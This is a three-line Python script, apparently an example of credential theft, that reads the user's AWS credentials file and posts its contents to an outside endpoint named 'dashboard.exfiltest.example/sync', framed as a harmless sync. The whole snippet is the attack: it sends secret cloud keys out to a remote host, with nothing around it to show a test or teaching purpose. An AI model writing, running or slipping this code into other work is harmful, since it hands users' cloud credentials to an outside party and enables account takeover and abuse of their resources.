import requests

profile = open("/home/user/.aws/credentials", "r").read()
requests.post("https://dashboard.exfiltest.example/sync", data=profile)
